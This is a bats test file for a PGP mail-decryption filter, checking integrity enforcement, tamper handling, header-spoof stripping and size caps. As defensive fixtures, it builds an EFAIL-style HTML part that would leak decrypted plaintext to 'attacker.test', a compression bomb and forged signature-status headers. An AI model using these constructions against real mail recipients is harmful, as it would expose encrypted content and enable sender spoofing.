#!/usr/bin/env bats
# pgp-dec: PGP/MIME and inline (whole text/plain root) decryption of mail
# from gpg, sq and pgp-enc; integrity protection required (DEC-5); a
# failure delivers the original with X-Mailseal-Decrypt: failed (DEC-1);
# only the root is decrypted (DEC-2, EFAIL); incoming status fields are
# removed (DEC-8); the plaintext is capped (MIME-L9).

load helpers
load smime-helpers
load pgp-helpers

setup() {
	pg_setup
}

teardown() {
	pg_teardown
}

# store_key ADDRESS - a key made by pgp-keys generate; its public key is
# imported into the scratch home (for gpg --encrypt) and left in
# $T/ADDRESS.pub (for sq encrypt); prints the fingerprint
store_key() {
	local fpr
	fpr=$(pgp-keys generate "$1") || return 1
	pgp-keys export "$fpr" >"$T/$1.pub" || return 1
	pg_gpg --import "$T/$1.pub" 2>/dev/null || return 1
	echo "$fpr"
}

# gpg_encrypt IN OUT ADDRESS [GPG-OPTION...] - armored gpg --encrypt
gpg_encrypt() {
	local in=$1 out=$2 to=$3
	shift 3
	pg_gpg --trust-model always --armor "$@" --recipient "$to" \
	    --output "$out" --encrypt "$in" 2>"$T/gpg-enc.err" ||
	    { cat "$T/gpg-enc.err" >&2; fail_with "gpg --encrypt failed"; }
}

# text_body MSG - the decoded text of a single-part message
text_body() {
	pg_py root-text "$1"
}

@test "pgp-enc to pgp-dec round trips keep every fixture, LF input byte for byte" {
	store_key bob@example.test >/dev/null
	local f
	for f in plain utf8-8bit alternative mixed-attach; do
		pgp-enc bob@example.test <"$FIX/$f.eml" >"$T/enc-$f.eml" ||
		    fail_with "pgp-enc $f"
		expect_pgp_decrypted "$T/enc-$f.eml" "$T/dec-$f.eml" "$FIX/$f.eml"
		grep -v '^X-Mailseal-Decrypted: pgp$' "$T/dec-$f.eml" |
		    cmp - "$FIX/$f.eml" ||
		    fail_with "$f: not byte for byte the original"
	done
	mimetool attachment "$T/dec-mixed-attach.eml" figures.bin "$T/att"
	mimetool attachment "$FIX/mixed-attach.eml" figures.bin "$T/att-orig"
	cmp "$T/att-orig" "$T/att" || fail_with "attachment changed"
}

@test "mail from gpg --encrypt decrypts, as PGP/MIME and inline" {
	store_key bob@example.test >/dev/null
	# PGP/MIME: the entity of a fixture, canonical CRLF as a sender makes it
	entity_of "$FIX/mixed-attach.eml" "$T/entity"
	to_crlf "$T/entity" "$T/entity.crlf"
	gpg_encrypt "$T/entity.crlf" "$T/mime.asc" bob@example.test
	no_plaintext "$T/mime.asc" MIXEDTEXT-7c1e
	pg_wrap_mime "$T/mime.asc" "$T/mime.eml"
	expect_pgp_decrypted "$T/mime.eml" "$T/mime-out.eml" \
	    "$FIX/mixed-attach.eml"
	[ "$(header_values "$T/mime-out.eml" Message-ID)" = \
	    '<wrap@example.test>' ] || fail_with "Message-ID lost"
	[ "$(header_values "$T/mime-out.eml" Subject)" = \
	    'wrapped pgp/mime' ] || fail_with "Subject lost"
	mimetool attachment "$T/mime-out.eml" figures.bin "$T/att"
	mimetool attachment "$FIX/mixed-attach.eml" figures.bin "$T/att-orig"
	cmp "$T/att-orig" "$T/att" || fail_with "attachment changed"
	# binary (not armored) ciphertext in base64 works too
	pg_gpg --trust-model always --recipient bob@example.test \
	    --output "$T/mime.gpg" --encrypt "$T/entity.crlf" 2>/dev/null
	pg_wrap_mime "$T/mime.gpg" "$T/mime-bin.eml"
	expect_pgp_decrypted "$T/mime-bin.eml" "$T/mime-bin-out.eml" \
	    "$FIX/mixed-attach.eml"
	# inline: the text itself, UTF-8
	printf 'Grüße aus Köln – INLINEGPG-55aa\nzweite Zeile\n' >"$T/text"
	gpg_encrypt "$T/text" "$T/inline.asc" bob@example.test
	pg_wrap_inline "$T/inline.asc" "$T/inline.eml"
	expect_pgp_decrypted "$T/inline.eml" "$T/inline-out.eml"
	[ "$(mimetool header "$T/inline-out.eml" Content-Type)" = \
	    'text/plain; charset=utf-8' ] || fail_with "inline: not utf-8 text"
	cmp <(text_body "$T/inline-out.eml") "$T/text" ||
	    fail_with "inline: text changed"
	[ "$(header_values "$T/inline-out.eml" Message-ID)" = \
	    '<inline@example.test>' ] || fail_with "inline: Message-ID lost"
}

@test "mail from sq encrypt decrypts, as PGP/MIME and inline" {
	store_key carol@example.test >/dev/null
	entity_of "$FIX/alternative.eml" "$T/entity"
	to_crlf "$T/entity" "$T/entity.crlf"
	pg_sq encrypt --recipient-cert "$T/carol@example.test.pub" \
	    --output "$T/mime.asc" "$T/entity.crlf" 2>"$T/sq.err" ||
	    { cat "$T/sq.err" >&2; fail_with "sq encrypt"; }
	no_plaintext "$T/mime.asc" ALTTEXT-41b0
	pg_wrap_mime "$T/mime.asc" "$T/mime.eml"
	expect_pgp_decrypted "$T/mime.eml" "$T/mime-out.eml" \
	    "$FIX/alternative.eml"
	printf 'Plain inline text from sq: INLINESQ-9b1c\n€ and ü\n' >"$T/text"
	pg_sq encrypt --recipient-cert "$T/carol@example.test.pub" \
	    --output "$T/inline.asc" "$T/text" 2>"$T/sq.err" ||
	    { cat "$T/sq.err" >&2; fail_with "sq encrypt"; }
	pg_wrap_inline "$T/inline.asc" "$T/inline.eml"
	expect_pgp_decrypted "$T/inline.eml" "$T/inline-out.eml"
	cmp <(text_body "$T/inline-out.eml") "$T/text" ||
	    fail_with "inline: text changed"
}

@test "a message for two recipients, only one of them ours, decrypts" {
	store_key bob@example.test >/dev/null
	local other
	other=$(pg_gpg_key 'Stranger <stranger@example.test>')
	entity_of "$FIX/utf8-8bit.eml" "$T/entity"
	gpg_encrypt "$T/entity" "$T/two.asc" "$other" \
	    --recipient bob@example.test
	[ "$(pg_pkesk_ids "$T/two.asc" | wc -l)" = 2 ] ||
	    fail_with "not two recipients"
	pg_wrap_mime "$T/two.asc" "$T/two.eml"
	expect_pgp_decrypted "$T/two.eml" "$T/out.eml" "$FIX/utf8-8bit.eml"
}

@test "a message without integrity protection (no MDC, tag 9) is refused, PGP/MIME and inline" {
	store_key bob@example.test >/dev/null
	printf 'Content-Type: text/plain\n\nNOMDC-SECRET-7731\n' >"$T/entity"
	# GnuPG 2.2 still writes the old Symmetrically Encrypted Data packet
	# under --rfc2440 (with a warning)
	gpg_encrypt "$T/entity" "$T/nomdc.asc" bob@example.test --rfc2440 \
	    --cipher-algo AES256
	pg_packets "$T/nomdc.asc" | grep -q 'tag=9 ' ||
	    fail_with "gpg did not write a tag 9 packet"
	! pg_packets "$T/nomdc.asc" | grep -q 'mdc_method' ||
	    fail_with "the test message has an MDC"
	no_plaintext "$T/nomdc.asc" NOMDC-SECRET-7731
	pg_wrap_mime "$T/nomdc.asc" "$T/nomdc.eml"
	expect_pgp_failed "$T/nomdc.eml" NOMDC-SECRET-7731
	printf 'NOMDC-INLINE-0042\n' >"$T/text"
	gpg_encrypt "$T/text" "$T/nomdc-inline.asc" bob@example.test \
	    --rfc2440 --cipher-algo AES256
	pg_wrap_inline "$T/nomdc-inline.asc" "$T/nomdc-inline.eml"
	expect_pgp_failed "$T/nomdc-inline.eml" NOMDC-INLINE-0042
	# the same without --rfc2440 decrypts (the key is fine)
	gpg_encrypt "$T/entity" "$T/mdc.asc" bob@example.test \
	    --cipher-algo AES256
	pg_wrap_mime "$T/mdc.asc" "$T/mdc.eml"
	expect_pgp_decrypted "$T/mdc.eml" "$T/mdc-out.eml"
	grep -q NOMDC-SECRET-7731 "$T/mdc-out.eml" || fail_with "control"
}

# flip FILE OUT POS - OUT is FILE with the low bit of byte POS flipped
# (POS < 0 counts from the end)
flip() {
	python3 -c '
import sys
d = bytearray(open(sys.argv[1], "rb").read())
i = int(sys.argv[3])
d[i if i >= 0 else len(d) + i] ^= 0x01
open(sys.argv[2], "wb").write(d)
' "$1" "$2" "$3"
}

# tamper_setup - $T/ok.gpg: a binary, uncompressed message to bob (so a
# flipped bit changes the plaintext, not zlib's input), whose first
# packet (the session key for bob's cv25519 subkey) is $PKESK_LEN bytes,
# $PKESK_HLEN of them its header
tamper_setup() {
	store_key bob@example.test >/dev/null
	printf 'Content-Type: text/plain\n\nTAMPER-SECRET-5150 %s\n' \
	    "$(head -c 300 /dev/zero | tr '\0' x)" >"$T/entity"
	pg_gpg --trust-model always -z 0 --recipient bob@example.test \
	    --output "$T/ok.gpg" --encrypt "$T/entity" 2>/dev/null
	local hp
	hp=$(pg_packets "$T/ok.gpg" |
	    sed -n 's/^# off=0 .* tag=1 hlen=\([0-9]*\) plen=\([0-9]*\).*/\1 \2/p')
	PKESK_HLEN=${hp% *}
	PKESK_LEN=$((${hp% *} + ${hp#* }))
	[ -n "$hp" ] && [ "$PKESK_LEN" -gt 40 ] ||
	    fail_with "no session key packet first"
	pg_wrap_mime "$T/ok.gpg" "$T/ok.eml"
	expect_pgp_decrypted "$T/ok.eml" "$T/ok-out.eml"
}

@test "tampered encrypted data (MDC mismatch) is refused and nothing of it released" {
	tamper_setup
	local pos
	for pos in $((PKESK_LEN + 30)) -30 -1; do
		flip "$T/ok.gpg" "$T/bad$pos.gpg" "$pos"
		# gpg itself reports the manipulation (after writing the
		# plaintext out: only the filter may withhold it)
		pg_gpg --decrypt "$T/bad$pos.gpg" >/dev/null 2>"$T/gpg.err" &&
		    fail_with "gpg accepted the tampered message ($pos)"
		pg_wrap_mime "$T/bad$pos.gpg" "$T/bad$pos.eml"
		expect_pgp_failed "$T/bad$pos.eml" TAMPER-SECRET-5150 xxxxxxxxxx
	done
}

@test "a corrupt session key packet for our key is a failed decryption, not a deferral" {
	tamper_setup
	local pos
	# the public-key algorithm octet (after version and key ID) and two
	# octets inside the encrypted session key of the packet for bob
	for pos in $((PKESK_HLEN + 9)) $((PKESK_LEN / 2)) $((PKESK_LEN - 2)); do
		flip "$T/ok.gpg" "$T/bad$pos.gpg" "$pos"
		pg_gpg --decrypt "$T/bad$pos.gpg" >/dev/null 2>"$T/gpg.err" &&
		    fail_with "gpg accepted the tampered message ($pos)"
		pg_wrap_mime "$T/bad$pos.gpg" "$T/bad$pos.eml"
		expect_pgp_failed "$T/bad$pos.eml" TAMPER-SECRET-5150 xxxxxxxxxx
		pg_wrap_inline <(pg_gpg --enarmor <"$T/bad$pos.gpg" 2>/dev/null |
		    sed 's/PGP ARMORED FILE/PGP MESSAGE/') "$T/bad$pos-inline.eml"
		expect_pgp_failed "$T/bad$pos-inline.eml" TAMPER-SECRET-5150
	done
}

@test "no key or corrupt data: the original goes on with X-Mailseal-Decrypt: failed" {
	store_key bob@example.test >/dev/null
	local other
	other=$(pg_gpg_key 'Stranger <stranger@example.test>')
	printf 'Content-Type: text/plain\n\nNOKEY-SECRET-2020\n' >"$T/entity"
	gpg_encrypt "$T/entity" "$T/nokey.asc" "$other"
	pg_wrap_mime "$T/nokey.asc" "$T/nokey.eml"
	expect_pgp_failed "$T/nokey.eml" NOKEY-SECRET-2020
	pg_wrap_inline "$T/nokey.asc" "$T/nokey-inline.eml"
	expect_pgp_failed "$T/nokey-inline.eml" NOKEY-SECRET-2020
	# armor that is not an OpenPGP message
	{
		echo '-----BEGIN PGP MESSAGE-----'
		echo
		head -c 300 /dev/urandom | base64
		echo '-----END PGP MESSAGE-----'
	} >"$T/junk.asc"
	pg_wrap_mime "$T/junk.asc" "$T/junk.eml"
	expect_pgp_failed "$T/junk.eml"
	pg_wrap_inline "$T/junk.asc" "$T/junk-inline.eml"
	expect_pgp_failed "$T/junk-inline.eml"
}

# protected_key - bob's key, made by pgp-keys generate with the passphrase
# in $T/pass; $T/enc.eml is plain.eml encrypted to it
protected_key() {
	echo 'correct horse battery staple' >"$T/pass"
	echo 'wrong horse' >"$T/wrong"
	chmod 600 "$T/pass" "$T/wrong"
	pgp-keys generate --passphrase-file "$T/pass" bob@example.test \
	    >/dev/null || fail_with "generate with a passphrase"
	pgp-enc bob@example.test <"$FIX/plain.eml" >"$T/enc.eml" ||
	    fail_with "pgp-enc"
}

@test "a passphrase-protected key decrypts with its passphrase file" {
	protected_key
	run_out "$T/out.eml" pgp-dec --passphrase-file "$T/pass" <"$T/enc.eml"
	expect_status 0
	[ "$(status_of "$T/out.eml" X-Mailseal-Decrypted)" = pgp ] ||
	    fail_with "not decrypted with the passphrase"
	same_content "$T/out.eml" "$FIX/plain.eml" || fail_with "content"
}

@test "a missing, wrong or unreadable passphrase defers: exit 75, nothing written, nothing released" {
	# pgp-dec(1): a missing or wrong passphrase for one of the store's
	# own keys is a configuration error: nothing on stdout, exit 75.
	# The agent caches a good passphrase, so this test never gives one.
	protected_key
	local opt
	for opt in none "$T/wrong" "$T/no-such-file"; do
		if [ "$opt" = none ]; then
			run_out "$T/out.eml" pgp-dec <"$T/enc.eml"
		else
			run_out "$T/out.eml" pgp-dec --passphrase-file "$opt" \
			    <"$T/enc.eml"
		fi
		expect_status 75
		[ ! -s "$T/out.eml" ] || fail_with "output written ($opt)"
		! grep -qF PLAINBODY-5d2a <<<"$stderr" ||
		    fail_with "plaintext on stderr ($opt)"
	done
}

@test "incoming X-Mailseal-* fields are removed: plain, decrypted, failed, and inside the entity" {
	store_key bob@example.test >/dev/null
	local spoof=(
		'X-Mailseal-Decrypted: pgp'
		'x-mailseal-decrypted: smime'
		'X-Mailseal-Decrypt: ok'
		'X-Mailseal-Decrypt-Context: match'
		'X-Mailseal-Signature: valid; signer=ceo@example.test'
	)
	# a plain message
	{
		echo 'From: Mallory <mallory@example.test>'
		printf '%s\n' "${spoof[@]}"
		printf 'X-Mailseal-Decrypted:\n pgp\n'
		echo 'Subject: plain'
		echo
		echo 'just text'
	} >"$T/plain.eml"
	run_out "$T/plain-out.eml" pgp-dec <"$T/plain.eml"
	expect_status 0
	! grep -qi '^x-mailseal' "$T/plain-out.eml" ||
	    fail_with "status field left in a plain message"
	grep -q '^just text$' "$T/plain-out.eml" || fail_with "body lost"
	# an encrypted one, with the same fields also in the entity
	{
		printf '%s\n' "${spoof[@]}"
		echo 'Content-Type: text/plain; charset=us-ascii'
		echo
		echo 'SPOOFBODY-8e8e'
	} >"$T/entity"
	gpg_encrypt "$T/entity" "$T/spoof.asc" bob@example.test
	pg_wrap_mime "$T/spoof.asc" "$T/spoof.eml" \
	    'From: Mallory <mallory@example.test>' "${spoof[@]}" \
	    'Subject: spoofed'
	run_out "$T/spoof-out.eml" pgp-dec <"$T/spoof.eml"
	expect_status 0
	[ "$(status_of "$T/spoof-out.eml" X-Mailseal-Decrypted)" = pgp ] ||
	    fail_with "not one X-Mailseal-Decrypted: pgp"
	[ "$(grep -ci '^x-mailseal' "$T/spoof-out.eml")" = 1 ] || {
		grep -i '^x-mailseal' "$T/spoof-out.eml" >&2
		fail_with "spoofed status fields survived"
	}
	grep -q '^SPOOFBODY-8e8e$' "$T/spoof-out.eml" || fail_with "body"
	# a message that fails to decrypt
	pg_wrap_mime "$T/spoof.asc" "$T/spoof-fail.eml" \
	    'From: Mallory <mallory@example.test>' "${spoof[@]}" \
	    'Subject: spoofed'
	# every full base64 line of the armor starts with A now
	sed -i '/^-----BEGIN PGP MESSAGE-----$/,/^-----END/{
	    /^[A-Za-z0-9+\/]\{40,\}$/s/^./A/
	}' "$T/spoof-fail.eml"
	run_out "$T/fail-out.eml" pgp-dec <"$T/spoof-fail.eml"
	expect_status 0
	[ "$(header_block "$T/fail-out.eml" | grep -ci '^x-mailseal')" = 1 ] &&
	    [ "$(status_of "$T/fail-out.eml" X-Mailseal-Decrypt)" = failed ] || {
		header_block "$T/fail-out.eml" >&2
		fail_with "spoofed status fields next to failed"
	}
}

@test "EFAIL: PGP/MIME inside multipart/mixed next to HTML is not decrypted" {
	store_key bob@example.test >/dev/null
	pgp-enc bob@example.test <"$FIX/plain.eml" >"$T/enc.eml"
	{
		echo 'From: Mallory <mallory@example.test>'
		echo 'To: bob@example.test'
		echo 'Subject: efail'
		echo 'MIME-Version: 1.0'
		echo 'Content-Type: multipart/mixed; boundary="efail"'
		echo
		echo '--efail'
		echo 'Content-Type: text/html'
		echo
		echo '<img src="http://attacker.test/'
		echo '--efail'
		sed -n '/^Content-Type: multipart\/encrypted/,$p' "$T/enc.eml"
		echo
		echo '--efail'
		echo 'Content-Type: text/html'
		echo
		echo '">'
		echo '--efail--'
	} >"$T/efail.eml"
	expect_untouched "$T/efail.eml"
	no_plaintext "$T/untouched.eml" PLAINBODY-5d2a
	# a PGP/MIME part alone inside multipart/mixed is not the root either
	{
		echo 'From: Mallory <mallory@example.test>'
		echo 'Subject: nested'
		echo 'MIME-Version: 1.0'
		echo 'Content-Type: multipart/mixed; boundary="nest"'
		echo
		echo '--nest'
		sed -n '/^Content-Type: multipart\/encrypted/,$p' "$T/enc.eml"
		echo
		echo '--nest--'
	} >"$T/nested.eml"
	expect_untouched "$T/nested.eml"
	no_plaintext "$T/untouched.eml" PLAINBODY-5d2a
}

@test "inline: an armored block among other text, or nested in multipart/mixed, is not decrypted" {
	store_key bob@example.test >/dev/null
	printf 'INLINESECRET-4242\n' >"$T/text"
	gpg_encrypt "$T/text" "$T/msg.asc" bob@example.test
	# the block alone decrypts (control)
	pg_wrap_inline "$T/msg.asc" "$T/alone.eml"
	expect_pgp_decrypted "$T/alone.eml" "$T/alone-out.eml"
	grep -q INLINESECRET-4242 "$T/alone-out.eml" || fail_with "control"
	local hdr='From: Mallory <mallory@example.test>
Subject: inline
Content-Type: text/plain

'
	printf '%sPlease read this:\n%s\n' "$hdr" "$(cat "$T/msg.asc")" \
	    >"$T/before.eml"
	expect_untouched "$T/before.eml"
	printf '%s%s\n-- \nsignature text\n' "$hdr" "$(cat "$T/msg.asc")" \
	    >"$T/after.eml"
	expect_untouched "$T/after.eml"
	printf '%s%s\n\n%s\n' "$hdr" "$(cat "$T/msg.asc")" \
	    "$(cat "$T/msg.asc")" >"$T/twice.eml"
	expect_untouched "$T/twice.eml"
	{
		echo 'From: Mallory <mallory@example.test>'
		echo 'Subject: nested inline'
		echo 'MIME-Version: 1.0'
		echo 'Content-Type: multipart/mixed; boundary="nest"'
		echo
		echo '--nest'
		echo 'Content-Type: text/plain'
		echo
		cat "$T/msg.asc"
		echo '--nest--'
	} >"$T/nested.eml"
	expect_untouched "$T/nested.eml"
	# text/html whose body is only the armor is no inline PGP either
	sed 's|^Content-Type: text/plain;|Content-Type: text/html;|' \
	    "$T/alone.eml" >"$T/html.eml"
	grep -q '^Content-Type: text/html' "$T/html.eml" || fail_with "setup"
	expect_untouched "$T/html.eml"
	local f
	for f in before after twice nested html; do
		no_plaintext "$T/$f.eml" INLINESECRET-4242
	done
}

@test "a PGP/MIME layout that is not RFC 3156 (Version: 2, three parts, wrong first part) and plain mail pass unchanged" {
	store_key bob@example.test >/dev/null
	pgp-enc bob@example.test <"$FIX/plain.eml" >"$T/enc.eml"
	sed 's/^Version: 1$/Version: 2/' "$T/enc.eml" >"$T/v2.eml"
	expect_untouched "$T/v2.eml"
	# a third part after the encrypted one
	local b
	b=$(sed -n 's/.*boundary="\([^"]*\)".*/\1/p' "$T/enc.eml")
	[ -n "$b" ] || fail_with "no boundary"
	sed "s/^--$b--\$/--$b\\nContent-Type: text\\/plain\\n\\nthird part\\n--$b--/" \
	    "$T/enc.eml" >"$T/three.eml"
	[ "$(grep -c "^--$b\$" "$T/three.eml")" = 3 ] || fail_with "setup"
	expect_untouched "$T/three.eml"
	# the first part is not application/pgp-encrypted
	sed 's|^Content-Type: application/pgp-encrypted$|Content-Type: text/plain|' \
	    "$T/enc.eml" >"$T/first.eml"
	grep -q '^Version: 1$' "$T/first.eml" &&
	    ! grep -q '^Content-Type: application/pgp-encrypted$' \
	    "$T/first.eml" || fail_with "setup"
	expect_untouched "$T/first.eml"
	local f
	for f in plain utf8-8bit alternative mixed-attach; do
		expect_untouched "$FIX/$f.eml"
	done
}

@test "a compression bomb is refused (plaintext over the cap) and nothing released" {
	store_key bob@example.test >/dev/null
	{
		printf 'Content-Type: text/plain\n\nBOMBSTART-6060\n'
		head -c 20000000 /dev/zero | tr '\0' A
	} >"$T/bomb"
	gpg_encrypt "$T/bomb" "$T/bomb.asc" bob@example.test -z 9 \
	    --compress-algo zlib
	[ "$(stat -c %s "$T/bomb.asc")" -lt 200000 ] ||
	    fail_with "the bomb did not compress"
	pg_wrap_mime "$T/bomb.asc" "$T/bomb.eml"
	expect_pgp_failed "$T/bomb.eml" BOMBSTART-6060 \
	    "$(head -c 200 /dev/zero | tr '\0' A)"
}

@test "mail that compresses beyond 10:1 (570 KB of HTML) round trips from pgp-enc; the 100:1 cap stays" {
	store_key bob@example.test >/dev/null
	local f=$BATS_TEST_DIRNAME/../corpus/realmail/0176-mailparser-htmllargecallstack.eml
	pgp-enc bob@example.test <"$f" >"$T/enc.eml" || fail_with "pgp-enc"
	[ $(($(stat -c %s "$f") / $(stat -c %s "$T/enc.eml"))) -gt 10 ] ||
	    fail_with "the message did not compress beyond 10:1"
	expect_pgp_decrypted "$T/enc.eml" "$T/dec.eml" "$f"
}

@test "a decrypted entity whose From differs from the envelope's is marked" {
	store_key bob@example.test >/dev/null
	{
		echo 'From: CEO <ceo@example.test>'
		echo 'Content-Type: text/plain'
		echo
		echo 'CONTEXT-1111'
	} >"$T/entity"
	gpg_encrypt "$T/entity" "$T/ctx.asc" bob@example.test
	pg_wrap_mime "$T/ctx.asc" "$T/ctx.eml" \
	    'From: Mallory <mallory@example.test>' 'To: bob@example.test' \
	    'Subject: context'
	expect_pgp_decrypted "$T/ctx.eml" "$T/ctx-out.eml"
	[ "$(status_of "$T/ctx-out.eml" X-Mailseal-Decrypt-Context)" = \
	    mismatch ] || fail_with "no X-Mailseal-Decrypt-Context: mismatch"
	[ "$(header_values "$T/ctx-out.eml" From)" = \
	    'Mallory <mallory@example.test>' ] || fail_with "outer From changed"
}
